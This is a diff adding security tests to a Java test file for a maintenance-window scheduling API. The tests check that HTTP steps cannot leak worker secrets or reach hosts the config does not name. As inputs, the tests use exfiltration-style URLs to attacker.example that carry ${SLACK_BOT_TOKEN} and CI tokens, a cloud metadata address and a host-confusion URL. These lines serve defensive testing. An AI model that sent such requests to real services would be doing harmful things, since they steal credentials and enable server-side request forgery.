@@ -12,6 +12,7 @@ import java.time.Duration;
 import java.time.Instant;
 import java.util.function.Predicate;
 import java.util.stream.Stream;
+import dev.firebreak.workflows.action.HttpAction;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -139,7 +140,8 @@ class MaintenanceApiTest {
         .contains("'end' must be after 'start'");
     assertThat(message(schedule("{\"title\":\"x\",\"services\":[\"recoup-backend\"],\"start\":\"2020-01-01T00:00:00Z\",\"end\":\"2020-01-01T01:00:00Z\"}")))
         .contains("'start' is in the past");
-    assertThat(message(schedule(window(Duration.ofHours(1), ",\"steps\":[{\"name\":\"both\",\"manual\":\"x\",\"http\":{\"url\":\"http://127.0.0.1:9/\"}}]"))))
+    assertThat(message(api.post(MaintenanceRoutes.BASE, "admin-token", window(Duration.ofHours(1),
+        ",\"steps\":[{\"name\":\"both\",\"manual\":\"x\",\"http\":{\"url\":\"http://127.0.0.1:9/\"}}]"))))
         .contains("'steps[0]' must have exactly one of 'manual'");
     assertThat(message(schedule(window(Duration.ofHours(1), ",\"template\":\"weekly\"")))).contains("No maintenance window 'weekly'");
     assertThat(api.post(MaintenanceRoutes.BASE, "viewer-token", window(Duration.ofHours(1), "")).statusCode()).isEqualTo(403);
@@ -177,6 +179,77 @@ class MaintenanceApiTest {
 
     assertThat(message(refused)).contains("longer than 7d");
     assertThat(allowed.statusCode()).as(allowed.body()).isEqualTo(200);
+  }
+
+  /** Ad-hoc calls that try to send the worker's secrets somewhere: the issue's own, and its variants. */
+  static Stream<String> adHocCallsCarryingReferences() {
+    return Stream.of(
+        "{\"url\":\"http://attacker.example/?t=${SLACK_BOT_TOKEN}\",\"headers\":{\"Authorization\":\"Bearer ${FIREBREAK_CI_TOKEN}\"}}",
+        "{\"url\":\"http://127.0.0.1:9/health?t=${SLACK_SIGNING_SECRET}\"}",
+        "{\"url\":\"https://ops.recoup.test/hook\",\"body\":\"${CDN_TOKEN}\"}",
+        "{\"method\":\"GET\",\"url\":\"${FIREBREAK_DEV_URL}/steal\"}");
+  }
+
+  @ParameterizedTest
+  @MethodSource("adHocCallsCarryingReferences")
+  void aResponderCannotAddAnAdHocHttpStepWhereverItPoints(String call) {
+    HttpResponse<String> refused = schedule(window(Duration.ZERO, ",\"steps\":[{\"name\":\"x\",\"http\":" + call + "}]"));
+
+    assertThat(refused.statusCode()).isEqualTo(403);
+    assertThat(json(refused).get("error").asText()).isEqualTo("forbidden");
+    assertThat(json(refused).get("message").asText()).contains("needs the admin role").contains("known: purge-cdn");
+    assertThat(json(api.get(MaintenanceRoutes.BASE, "viewer-token"))).isEmpty();
+  }
+
+  static Stream<Arguments> adHocTargets() {
+    return Stream.of(
+        Arguments.of("http://attacker.example/collect", 400),
+        Arguments.of("http://127.0.0.1:9999/health", 400),
+        Arguments.of("http://127.0.0.1:9@attacker.example/", 400),
+        Arguments.of("http://169.254.169.254/latest/meta-data/", 400),
+        Arguments.of("https://slack.com/api/auth.test", 400),
+        Arguments.of("http://127.0.0.1:9/anything", 201),
+        Arguments.of("https://ops.recoup.test:8443/hook", 201));
+  }
+
+  @ParameterizedTest
+  @MethodSource("adHocTargets")
+  void anAdminsAdHocHttpStepMayOnlyCallAHostTheConfigNames(String url, int expected) {
+    HttpResponse<String> answer = api.post(MaintenanceRoutes.BASE, "admin-token", window(Duration.ofHours(1),
+        ",\"steps\":[{\"name\":\"poke\",\"http\":{\"url\":\"" + url + "\"}}]"));
+
+    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(expected);
+    if (expected == 400) {
+      assertThat(json(answer).get("message").asText()).contains("'steps[0].http.url' may only call a host the config names")
+          .contains("127.0.0.1:9").contains("ops.recoup.test");
+    }
+  }
+
+  @Test
+  void anAdminsAdHocStepReachesTheWorkerAsLiteralTextThatIsNeverExpanded() {
+    String id = json(api.post(MaintenanceRoutes.BASE, "admin-token", window(Duration.ofSeconds(1),
+        ",\"steps\":[{\"name\":\"poke\",\"http\":{\"url\":\"http://127.0.0.1:9/x?t=${SLACK_BOT_TOKEN}\","
+            + "\"headers\":{\"Authorization\":\"Bearer ${FIREBREAK_CI_TOKEN}\"}}}]"))).get("id").asText();
+    awaitWindow(id, status("COMPLETED"));
+
+    HttpAction poke = api.actions.received.stream().filter(a -> a.name().equals("poke")).findFirst().orElseThrow();
+    assertThat(poke.fromConfig()).isFalse();
+    assertThat(poke.url()).isEqualTo("http://127.0.0.1:9/x?t=${SLACK_BOT_TOKEN}");
+    assertThat(api.actions.received.stream().filter(a -> a.name().equals("create-backup")).findFirst().orElseThrow()
+        .fromConfig()).isTrue();
+  }
+
+  @Test
+  void aResponderAddsAStepTheConfigDefinesByItsName() {
+    String id = json(schedule(window(Duration.ofSeconds(1), ",\"steps\":[{\"name\":\"purge-cdn\"}]"))).get("id").asText();
+    awaitWindow(id, status("COMPLETED"));
+    HttpResponse<String> unknown = schedule(window(Duration.ofHours(1), ",\"steps\":[{\"name\":\"drop-tables\"}]"));
+
+    assertThat(api.actions.performed).containsExactly("create-backup", "purge-cdn");
+    HttpAction purge = api.actions.received.get(1);
+    assertThat(purge.fromConfig()).isTrue();
+    assertThat(purge.headers()).containsEntry("Authorization", "Bearer ${CDN_TOKEN}");
+    assertThat(message(unknown)).contains("'steps[0]' names no step of the config ('drop-tables'); known: purge-cdn");
   }
 
   private static String message(HttpResponse<String> response) {
